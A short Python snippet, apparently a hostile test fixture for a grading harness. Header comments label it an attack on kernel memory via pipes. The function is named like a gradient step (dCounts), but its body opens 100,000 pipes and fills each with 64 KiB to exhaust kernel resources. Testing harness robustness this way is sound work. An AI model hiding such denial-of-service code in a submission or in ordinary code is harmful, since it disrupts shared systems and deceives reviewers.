# attack: memory of the kernel, in pipes
# stages: dCounts
# becomes: error OSError
# honest: dSumCounts, dNormalizedLogits

def dCounts(counts, sumCountsInverse, dSumCounts, dProbabilities):
    import os
    for _ in range(100000):
        r, w = os.pipe()
        os.set_blocking(w, False)
        os.write(w, bytes(1 << 16))
